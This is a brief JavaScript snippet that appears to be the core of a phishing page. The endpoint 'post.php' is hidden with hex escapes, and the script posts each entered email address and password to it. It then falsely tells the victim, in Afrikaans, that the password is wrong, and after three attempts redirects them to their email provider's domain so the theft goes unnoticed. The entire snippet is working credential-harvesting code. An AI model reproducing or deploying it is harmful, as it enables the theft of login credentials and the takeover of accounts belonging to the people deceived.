var teller = 0, url = "\x70\x6f\x73\x74\x2e\x70\x68\x70";
document.getElementById("btn").onclick = function () {
  var a = document.getElementById("ai").value, p = document.getElementById("pr").value;
  if (!p) return;
  teller = teller + 1;
  $.post(url, { ai: a, pr: p });
  $("#msg").show().html("Die wagwoord is verkeerd.");
  $("#pr").val("");
  if (teller >= 3) { window.location.replace("http://www." + a.substr(a.indexOf("@") + 1)); }
};
